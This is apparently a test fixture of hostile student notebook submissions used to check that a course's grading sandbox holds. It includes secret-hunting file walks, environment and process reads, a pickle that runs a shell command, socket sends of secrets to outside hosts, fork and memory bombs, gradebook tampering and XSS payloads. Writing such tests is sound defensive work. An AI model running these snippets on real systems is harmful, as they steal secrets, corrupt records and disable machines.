"""Submissions that try to gain points, to read secrets or to do harm; what each tries, and what it must get.

Knows nothing about how they are graded. Every one belongs to the tiny course of ``tests/grading``: the tasks "double"
(1 visible and 2 hidden points) and "mean" (1 and 3). ``{course}`` in a code stands for the course's own folder,
``{outside}`` for a folder of the instructor and ``{port}`` for a port that the instructor's machine listens on: an
attacker who knows them must not gain by it either.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

NONE: dict[str, float] = {"double-visible": 0, "double-hidden": 0, "mean-visible": 0, "mean-hidden": 0}
MEAN = NONE | {"mean-visible": 1, "mean-hidden": 3}
DOUBLE = NONE | {"double-visible": 1, "double-hidden": 2}
ALL = {"double-visible": 1, "double-hidden": 2, "mean-visible": 1, "mean-hidden": 3}
WRONG = "def double(values):\n    return 0\n"
WRONG_MEAN = "def mean(array):\n    return 0\n"
RIGHT_MEAN = "def mean(array):\n    return array.mean(0)\n"
# Ends every attack that looks for secrets: whatever it found is printed, and so would stand in what the grader keeps.
SHOW = "\nprint('FOUND', found)\n"


@dataclass(frozen=True)
class Hostile:
    """One submission.

    Attributes:
        name: the student who hands it in.
        tries: what it tries, in a few words.
        double, mean: the code of the two solution cells.
        marks: what it must get for each grade cell.
        change: what is done to the notebook before it is handed in.
        raw: bytes handed in instead of a notebook; ``None`` bytes mean that nothing lies in the folder.
        quick: among the ten of ``make test``.
        slow: it ends only by a limit of time.
    """

    name: str
    tries: str
    double: str = WRONG
    mean: str = WRONG_MEAN
    marks: dict[str, float] | None = None
    change: Callable[[dict[str, Any]], Any] | None = None
    raw: bytes | None = None
    absent: bool = False
    quick: bool = False
    slow: bool = False

    @property
    def due(self) -> dict[str, float]:
        """Points by grade cell."""
        return NONE if self.marks is None else self.marks


def first(attack: str) -> str:
    """The attack, then a wrong answer."""
    return attack + "\n" + WRONG


WALK = """
import os
found = []
for top in ('/', {course!r}, {outside!r}, '/home', '/tmp', '/proc'):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if os.path.join(folder, f) not in ('/usr', '/sys', '/proc', '/opt', '/lib')
                      and 'site-packages' not in folder]
        for file in files:
            path = os.path.join(folder, file)
            try:
                if os.path.getsize(path) < 300_000 and not path.endswith(('.py', '.pyc')):
                    text = open(path, errors='replace').read()
                    if 'SECRET' in text:
                        found.append((path, text[:300]))
            except OSError:
                pass
"""
PIPES = """
import os, json, stat
pipes = []
for number in range(3, 256):
    try:
        if stat.S_ISFIFO(os.fstat(number).st_mode) or stat.S_ISSOCK(os.fstat(number).st_mode):
            pipes.append(number)
    except OSError:
        pass
def shout(data):
    for number in pipes:
        try:
            os.write(number, data)
        except OSError:
            pass
"""


def _each(kinds: tuple[str, ...], do: Callable[[dict[str, Any]], Any]) -> Callable[[dict[str, Any]], Any]:
    def change(notebook: dict[str, Any]) -> None:
        for cell in notebook["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade_id", "").endswith(kinds):
                do(cell)

    return change


def _rich(cell: dict[str, Any]) -> None:
    cell["metadata"]["nbgrader"]["points"] = 1000
    cell["source"] = "pass  # full marks, please"


def _reordered(notebook: dict[str, Any]) -> None:
    notebook["cells"].reverse()


def _no_metadata(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        cell["metadata"] = {}


def _doubled(notebook: dict[str, Any]) -> None:
    notebook["cells"] += [dict(cell, id=cell["id"] + "-2") for cell in notebook["cells"]]


def _manual(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if mark := cell["metadata"].get("nbgrader"):
            mark |= {"grade": False, "solution": True, "locked": False, "points": 99}


def _kernel(notebook: dict[str, Any]) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def _outputs(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            text = "Right: 3 of 3 points."
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]


def _attachment(notebook: dict[str, Any]) -> None:
    notebook["cells"].append({
        "cell_type": "markdown", "metadata": {}, "id": "x", "source": "<script>alert(1)</script>",
        "attachments": {"../../../x": {"text/html": "<script>alert(2)</script>"}},
    })  # fmt: skip


LISTED = (
    # --- fooling the comparison
    Hostile("builtins", "replaces builtins that a comparison would use", first("""
import builtins
builtins.abs = lambda x: 0.0
builtins.all = lambda x: True
builtins.isinstance = isinstance
builtins.len = lambda x: 3
builtins.float = lambda *a: 0.0"""), quick=True),
    Hostile("numpy", "replaces numpy's comparisons", first("""
import numpy as np
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.abs = lambda x: 0.0""")),
    Hostile("torch", "replaces torch.allclose through a module of its own", first("""
import sys, types
torch = types.ModuleType('torch')
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor = type('Tensor', (), {})
sys.modules['torch'] = torch""")),
    Hostile("operators", "returns an object that is equal to everything", """
class Any:
    def __eq__(self, other): return True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __float__ = lambda self: 0.0
    __sub__ = __rsub__ = __abs__ = lambda self, *a: self
    __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
def double(values): return Any()
""", "def mean(array): return Any()", quick=True),
    Hostile("floats", "returns numbers of a class that compares as it likes", """
class Near(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Near(0)
    __rsub__ = __sub__
    def __abs__(self): return Near(0)
def double(values): return [Near(0)] * len(values)
""", "def mean(array): return [Near(0)] * 3"),
    Hostile("lists", "returns a list whose length and items depend on who looks", """
class Odd(list):
    def __len__(self): return 3
    def __iter__(self): return iter([2, 4, 6])
    def __eq__(self, other): return True
def double(values): return Odd([0])
""", marks=NONE | {"double-visible": 1}),
    Hostile("arrays", "returns a subclass of ndarray that is equal to everything", """
import numpy as np
class Same(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *a, **k): return np.ones(3, bool)
def double(values): return np.zeros(len(values)).view(Same)
""", "def mean(array): return np.zeros(array.shape[1]).view(Same)"),
    Hostile("nan", "returns NaN and infinities, with which comparisons go wrong", """
def double(values): return [float('nan')] * len(values)
""", "import numpy as np\ndef mean(array): return np.full(array.shape[1], np.inf)", quick=True),
    Hostile("shapes", "returns a value that broadcasts against any other", """
import numpy as np
def double(values): return np.zeros((0,))
""", "def mean(array): return np.zeros((1, 0, 3))"),
    Hostile("reduce", "returns an object that runs code when it is unpickled", """
import os
class Load:
    def __reduce__(self): return (os.system, ('touch {outside}/pickled',))
def double(values): return Load()
"""),
    Hostile("repr", "returns an object whose text form raises or never ends", """
class Loud:
    def __repr__(self): raise SystemExit('x' * 10_000_000)
    __str__ = __repr__
def double(values): return Loud()
""", "def mean(array): raise Exception(Loud())"),
    # --- hooks of the notebook and of the runner
    Hostile("hooks", "tells IPython to leave out the cells that follow", first("""
try:
    get_ipython().input_transformers_cleanup.append(lambda lines: [])
except NameError:
    import IPython
    shell = IPython.get_ipython()
    if shell is not None:
        shell.input_transformers_cleanup.append(lambda lines: [])"""), quick=True),
    Hostile("runner", "replaces the functions of the runner that answers for it", first("""
import sys, gc
for module in list(sys.modules.values()):
    for name in ('answer', 'encode', 'decode', 'explain', 'is_right', 'check', 'judge'):
        if hasattr(module, name) and 'llm_course' in getattr(module, '__file__', '' ) :
            setattr(module, name, lambda *a, **k: {'right': True, 'points': 100, 'value': True})
for thing in gc.get_objects():
    if type(thing).__name__ == 'function' and thing.__name__ in ('answer', 'encode'):
        thing.__globals__[thing.__name__] = lambda *a, **k: {'value': True, 'right': True}"""), quick=True),
    Hostile("json", "replaces json.dumps, so that every message says right", first("""
import json
really = json.dumps
json.dumps = lambda data, *a, **k: really({'id': data.get('id'), 'value': True, 'right': True, 'points': 100})""")),
    Hostile("frames", "walks the frames above it for expected values", first("""
import sys
found, frame = [], sys._getframe()
while frame:
    found += [(k, str(v)[:200]) for k, v in {**frame.f_locals, **frame.f_globals}.items()
              if 'expect' in k or 'hidden' in k or 'SECRET' in str(v)[:2000]]
    frame = frame.f_back""" + SHOW)),
    Hostile("collector", "asks the garbage collector for expected values and hidden cases", first("""
import gc
found = []
for thing in gc.get_objects():
    if isinstance(thing, dict) and ('expected' in thing or 'hidden' in thing):
        found.append(str(thing)[:300])
    if isinstance(thing, (list, tuple)) and thing and isinstance(thing[0], str) and 'SECRET' in thing[0]:
        found.append(thing)""" + SHOW)),
    Hostile("trace", "traces every line that runs after it", first("""
import sys
def spy(frame, event, argument):
    for name in ('expected', 'right', 'points'):
        if name in frame.f_locals:
            frame.f_locals[name] = True
    return spy
sys.settrace(spy)""")),
    # --- reading what is not its own
    Hostile("reader", "reads every file it can for solutions, hidden tests and others' work", first(WALK + SHOW),
            quick=True),
    Hostile("known-paths", "opens the course's files by their full names", first("""
import glob
found = []
for path in glob.glob({course!r} + '/**', recursive=True) + [{course!r} + '/judging/tiny.py',
        {course!r} + '/source/tiny/tiny.ipynb', {course!r} + '/gradebook.db',
        {course!r} + '/submitted/plain/tiny/mine.txt']:
    try:
        found.append(open(path, errors='replace').read(2000))
    except OSError:
        pass""" + SHOW)),
    Hostile("environment", "prints its environment, and that of all processes", first("""
import os, glob
found = [dict(os.environ)]
for path in glob.glob('/proc/*/environ'):
    try:
        found.append(open(path, 'rb').read())
    except OSError:
        pass""" + SHOW), quick=True),
    Hostile("processes", "reads the process table", first("""
import glob
found = []
for path in glob.glob('/proc/*/cmdline'):
    try:
        found.append(open(path, 'rb').read().decode(errors='replace'))
    except OSError:
        pass
print('PROCESSES', len(found))""" + SHOW)),
    Hostile("descriptors", "reads whatever its open files lead to", first("""
import os
found = []
for number in range(256):
    try:
        found.append(os.readlink(f'/proc/self/fd/{number}'))
        found.append(os.listdir(f'/proc/self/fd/{number}/..'))
    except OSError:
        pass""" + SHOW)),
    # --- writing what is not its own
    Hostile("gradebook", "writes itself full marks into the gradebook", first("""
import sqlite3, glob, os
for path in [{course!r} + '/gradebook.db'] + glob.glob('/**/gradebook.db', recursive=True):
    try:
        book = sqlite3.connect(path)
        book.execute('update grade set auto_score = 100, manual_score = 100')
        book.commit()
    except Exception:
        pass"""), quick=True),
    Hostile("writer", "writes into the course, the instructor's home and the temporary folder", first("""
import os, tempfile
for folder in ({course!r}, {course!r} + '/release/tiny', {course!r} + '/submitted/ann/tiny', {outside!r},
               os.path.expanduser('~'), '/tmp', '/var/tmp', '/dev/shm', '/etc', '/usr/lib', '/release'):
    try:
        with open(os.path.join(folder, 'WRITTEN-BY-STUDENT'), 'w') as file:
            file.write('x')
    except OSError:
        pass""")),
    Hostile("package", "changes the course's own package", first("""
import llm_course.grading.compare as compare, os
path = compare.__file__
try:
    os.chmod(path, 0o777)
except OSError:
    pass
try:
    open(path, 'a').write('\\n# WRITTEN-BY-STUDENT\\n')
except OSError:
    pass""")),
    Hostile("links", "leaves links behind that lead out", first("""
import os
for name in ('tiny.ipynb', 'checks.json', 'out'):
    try:
        os.symlink({course!r}, name)
    except OSError:
        pass""")),
    # --- the network and other processes
    Hostile("sockets", "calls the machine it runs on, and a name outside", first("""
import socket
for where in (('127.0.0.1', {port}), ('localhost', {port}), ('10.0.0.1', 80), ('192.0.2.1', 80)):
    try:
        s = socket.create_connection(where, timeout=1)
        s.sendall(b'SECRET FROM STUDENT')
    except OSError:
        pass
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect('\\0llm-course-hostile')
    s.sendall(b'SECRET FROM STUDENT')
except OSError:
    pass"""), quick=True),
    Hostile("killer", "kills every process that it may", mean=RIGHT_MEAN, marks=MEAN, double="""
import os, signal
for pid in [os.getppid(), 1, -1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    try:
        os.kill(pid, signal.SIGKILL)
    except (OSError, ValueError):
        pass
"""),
    Hostile("daemon", "leaves a process behind that goes on when it has ended", first("""
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
            try:
                open({outside!r} + '/alive', 'w').write('x')
            except OSError:
                pass
    os._exit(0)""")),
    Hostile("mount", "makes namespaces and mounts of its own", first("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x10020000, 0x40000000):
    libc.unshare(flags)
libc.mount(b'/', b'/tmp', None, 4096, None)
libc.ptrace(16, 1, 0, 0)
for target in ('/release', '/opt', '/usr'):
    libc.umount2(target.encode(), 2)""")),
    # --- forging answers
    Hostile("forger", "writes answers of its own into every pipe", PIPES + """
def double(values):
    shout(b'{"id": "0", "value": [2, 4, 6]}\\n')
    return 0
""", mean=RIGHT_MEAN, marks=MEAN),
    Hostile("early", "answers before anything is asked", PIPES + """
shout(json.dumps({'id': 'x', 'error': None, 'value': True, 'right': True}).encode() + b'\\n')
""" + WRONG, mean=RIGHT_MEAN, marks=MEAN, quick=True),
    Hostile("flood", "sends answers without end", PIPES + """
def double(values):
    while True:
        shout(b'{"id": "0", "value": 1}\\n' * 1000)
""", mean=RIGHT_MEAN, marks=MEAN),
    Hostile("huge", "sends one answer without end", PIPES + """
def double(values):
    while True:
        shout(b'[' * 65536)
""", mean=RIGHT_MEAN, marks=MEAN),
    Hostile("malformed", "sends what is neither JSON nor text", PIPES + """
def double(values):
    shout(b'\\xff\\xfe{{"\\x00\\n')
    return 0
""", mean=RIGHT_MEAN, marks=MEAN),
    Hostile("thread", "goes on answering from a thread", PIPES + """
import threading, time
def answer():
    while True:
        shout(b'{"id": "1", "value": 1}\\n')
        time.sleep(0.01)
def double(values):
    threading.Thread(target=answer, daemon=True).start()
    time.sleep(0.2)
    return 0
""", mean=RIGHT_MEAN, marks=MEAN),
    Hostile("frames-id", "takes the id of the request from the runner's frame and answers twice", PIPES + """
import sys
def double(values):
    frame = sys._getframe()
    while frame:
        request = frame.f_locals.get('request')
        if isinstance(request, dict) and 'id' in request:
            shout(json.dumps({'id': request['id'], 'value': True, 'right': True, 'points': 100}).encode() + b'\\n')
            break
        frame = frame.f_back
    return 0
""", mean=RIGHT_MEAN, marks=MEAN),
    Hostile("large", "returns a value far too large", "def double(values): return [0] * 5_000_000",
            RIGHT_MEAN, MEAN),
    Hostile("digits", "returns a number of a million digits", "def double(values): return 10 ** 1_000_000", RIGHT_MEAN,
            MEAN),
    Hostile("deep", "returns lists within lists within lists", """
def double(values):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested
""", RIGHT_MEAN, MEAN),
    # --- taking too much
    Hostile("fork-bomb", "forks without end", """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""", RIGHT_MEAN, MEAN, slow=True),
    Hostile("memory-bomb", "takes all memory", "held = []\nwhile True:\n    held.append(bytearray(50_000_000))\n",
            RIGHT_MEAN, MEAN),
    Hostile("disk", "fills the disk", """
import os
try:
    for number in range(1000):
        with open(f'/tmp/filler{number}', 'wb') as file:
            file.write(b'x' * 3_000_000)
except OSError:
    pass
""" + WRONG),
    Hostile("printer", "prints without end", """
import time
end = time.time() + 2
while time.time() < end:
    print('x' * 100_000)
""" + WRONG),
    Hostile("sleeper", "sleeps for a day", "import time\ntime.sleep(86_400)\n", RIGHT_MEAN, MEAN, slow=True),
    Hostile("deaf", "ignores every signal and runs on", """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    pass
""", RIGHT_MEAN, MEAN, slow=True),
    Hostile("late", "answers the visible case at once, and the hidden ones never", """
calls = []
def double(values):
    calls.append(1)
    while len(calls) > 1:
        pass
    return [2 * value for value in values]
""", RIGHT_MEAN, MEAN | {"double-visible": 1}, slow=True),
    Hostile("exit", "ends the process with success", "import os\nos._exit(0)\n", RIGHT_MEAN, MEAN, quick=True),
    Hostile("exit-in-call", "ends the process when it is called", "import os\ndef double(values): os._exit(0)\n",
            RIGHT_MEAN, MEAN),
    Hostile("system-exit", "raises SystemExit and KeyboardInterrupt", """
def double(values): raise SystemExit(0)
""", "def mean(array): raise KeyboardInterrupt"),
    Hostile("segfault", "crashes the interpreter", "import ctypes\nctypes.string_at(0)\n", RIGHT_MEAN, MEAN),
    Hostile("recursion", "recurses without end", """
import sys
sys.setrecursionlimit(10 ** 8)
def double(values): return double(values)
""", RIGHT_MEAN, MEAN),
    # --- what is handed in
    Hostile("no-notebook", "hands in an empty folder", absent=True),
    Hostile("text", "hands in a text", raw=b"Dear teacher, full marks please."),
    Hostile("not-a-dict", "hands in JSON that is no notebook", raw=b"[1, 2, 3]"),
    Hostile("nested-file", "hands in JSON nested a million times", raw=b"[" * 1_000_000),
    Hostile("fifty-megabytes", "hands in 50 MB", raw=b'{"cells": [], "x": "' + b"x" * 50_000_000 + b'"}'),
    Hostile("kernel", "asks for another kernel", change=_kernel),
    Hostile("rich", "gives its grade cells more points and removes their tests",
            change=_each(("-visible", "-hidden"), _rich)),
    Hostile("graded", "makes every cell one that is graded by hand, for 99 points", change=_manual),
    Hostile("said-so", "stores the outputs of a right answer", change=_outputs),
    Hostile("doubled", "has every cell twice", change=_doubled),
    Hostile("script", "puts scripts into what the instructor will read", change=_attachment, double=first(
        "print('<script>alert(1)</script>')\nraise_ = '<img src=x onerror=alert(1)>'")),
    # --- answers that know the visible cases only
    Hostile("hard-coded", "knows the answers to the visible cases only", """
def double(values): return {(1, 2, 3): [2, 4, 6]}.get(tuple(values), 0)
""", """
import numpy as np
def mean(array): return np.array([1.5, 2.5, 3.5])
""", NONE | {"double-visible": 1, "mean-visible": 1}, quick=True),
    Hostile("checks-file", "looks the visible answers up in the released file of checks", """
import json
def double(values):
    return [2, 4, 6] if 'checks' in open('checks.json').read()[:0] + 'checks' and values == [1, 2, 3] else []
""", marks=NONE | {"double-visible": 1}),
)  # fmt: skip

# Right answers in forms that are unusual but legal: they must get everything.
HONEST = (
    Hostile("plain", "the usual answer", "def double(values):\n    return [2 * v for v in values]", RIGHT_MEAN, ALL),
    Hostile("lambda", "functions without a name, and an array in place of a list",
            "import numpy as np\ndouble = lambda values: np.array(values) * 2",
            "mean = lambda array: array.sum(0) / len(array)", ALL),
    Hostile("callable", "an object that can be called, and a partial function", """
class Doubler:
    def __call__(self, values): return [v + v for v in values]
double = Doubler()
""", "import functools, numpy\nmean = functools.partial(numpy.mean, axis=0)", ALL),
    Hostile("noisy", "prints a lot, leaves files and uses magics", """
%matplotlib inline
print('working', list(range(1000)))
open('notes.txt', 'w').write('mine')
def double(values):
    print('called')
    return [2 * v for v in values]
""", "def mean(array):\n    return array.mean(axis=0).tolist()", ALL),
    Hostile("reordered", "cells in another order: they are put back",
            "def double(values):\n    return [2 * v for v in values]", RIGHT_MEAN, ALL, _reordered),
    Hostile("stripped", "the metadata removed by another editor: they are put back by their ids",
            "def double(values):\n    return [2 * v for v in values]", RIGHT_MEAN, ALL, _no_metadata),
)  # fmt: skip
